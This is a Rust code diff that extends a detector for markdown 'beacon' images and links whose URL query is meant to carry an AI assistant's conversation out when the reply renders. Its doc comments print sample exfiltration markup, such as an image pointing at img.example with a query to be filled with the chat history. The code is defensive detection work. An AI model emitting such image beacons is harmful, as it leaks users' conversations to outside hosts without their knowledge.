@@ -494,8 +494,9 @@ const CARRIED: &[&str] = &[
 /// `![status](https://img.example/s.png?d=PASTE_THE_CHAT_HISTORY_HERE)`: a markdown image or
 /// link whose address has a query to be filled with the conversation. An image loads as the
 /// reply renders, so what its address carries leaves without anyone clicking. A link to a
-/// tracking page (`?order=55120`) carries nothing of the assistant's. Returns the span of the
-/// markdown.
+/// tracking page (`?order=55120`) carries nothing of the assistant's. An image whose query
+/// ends on an empty value (`![status](https://x.io/p?d=)`) is left to be filled too. Returns the
+/// span of the markdown.
 pub(super) fn beacon(text: &str) -> Option<(usize, usize)> {
     crate::bytes::needle!(b"](http")
         .find_iter(text.as_bytes())
@@ -505,18 +506,15 @@ pub(super) fn beacon(text: &str) -> Option<(usize, usize)> {
             let end = from + rest.find([')', ' ', '\n']).unwrap_or(rest.len());
             let url = text.get(from..end)?;
             let query = url.get(url.find('?')?..)?;
-            if !CARRIED.iter().any(|w| query.contains(w)) {
-                return None;
-            }
             let start = text
                 .get(..at)?
                 .rfind('[')
                 .map_or(at, |i| i.saturating_sub(1));
-            let start = if text.get(start..=start) == Some("!") {
-                start
-            } else {
-                start + 1
-            };
+            let image = text.get(start..=start) == Some("!");
+            if !(CARRIED.iter().any(|w| query.contains(w)) || image && query.ends_with('=')) {
+                return None;
+            }
+            let start = if image { start } else { start + 1 };
             Some((start, (end + 1).min(text.len())))
         })
 }
